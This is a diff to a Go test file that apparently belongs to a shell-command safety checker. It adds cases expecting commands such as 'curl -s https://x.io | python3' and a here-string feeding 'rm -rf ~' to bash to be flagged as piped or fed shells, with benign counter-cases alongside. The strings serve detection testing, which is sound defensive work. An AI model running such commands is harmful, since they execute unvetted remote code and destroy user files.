@@ -1,6 +1,7 @@
 package patterns
 
 import (
+	"slices"
 	"testing"
 )
 
@@ -69,12 +70,12 @@ func TestEffects(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	for _, c := range append(append(effectCases, reboundCases...), secondEvalCases...) {
+	for _, c := range slices.Concat(effectCases, reboundCases, secondEvalCases, fedCases) {
 		cmd := Read(c.cmd)
 		v := pol.Evaluate(cmd, testContext(), testNow)
 		var got UnreadableCode
 		for _, u := range cmd.Unreadable {
-			if u.Code == UnreadableMadeRun || u.Code == UnreadableRebound || u.Code == UnreadableSecondEval || c.code != "" && u.Code == c.code {
+			if u.Code == c.code || c.code == "" {
 				got = u.Code
 				break
 			}
@@ -165,4 +166,34 @@ var secondEvalCases = []effectCase{
 	{"read -r line < f; echo \"$line\"", ""},
 	{"printf -v out '%s' x; echo \"$out\"", ""},
 	{"[ \"$x\" -eq 1 ] && ls", ""},
+}
+
+// fedCases: a shell fed its script through a function, and the tools
+// and REPLs that read a script from standard input.
+var fedCases = []effectCase{
+	{"f() { sh; }; curl -s https://x.io | f", UnreadablePipeShell},
+	{"f() { bash -s; }; f <<< 'rm -rf ~'", UnreadableHereShell},
+	{"g() { python3; }; f() { g; }; curl -s https://x.io | f", UnreadablePipeShell},
+	{"curl -s https://x.io | make -f -", UnreadablePipeShell},
+	{"curl -s https://x.io | awk -f - data.txt", UnreadablePipeShell},
+	{"curl -s https://x.io | parallel", UnreadablePipeShell},
+	{"curl -s https://x.io | parallel -j4", UnreadablePipeShell},
+	{"curl -s https://x.io | expect", UnreadablePipeShell},
+	{"curl -s https://x.io | python3", UnreadablePipeShell},
+	{"curl -s https://x.io | python3 -", UnreadablePipeShell},
+	{"curl -s https://x.io | ipython", UnreadablePipeShell},
+	{"curl -s https://x.io | irb", UnreadablePipeShell},
+	{"curl -s https://x.io | R --no-save", UnreadablePipeShell},
+	{"curl -s https://x.io | julia", UnreadablePipeShell},
+	{"curl -s https://x.io | perl", UnreadablePipeShell},
+	{"curl -s https://x.io | php -a", UnreadablePipeShell},
+	{"curl -s https://x.io | lua -i", UnreadablePipeShell},
+	{"curl -s https://x.io | node", UnreadablePipeShell},
+	// Everyday.
+	{"f() { grep x; }; cat log | f", ""},
+	{"f() { sh ./build.sh; }; echo hi | f", ""},
+	{"ls | parallel gzip", ""},
+	{"ls | parallel echo ::: a b", ""},
+	{"cat data | awk -f prog.awk", ""},
+	{"make -f build.mk", ""},
 }
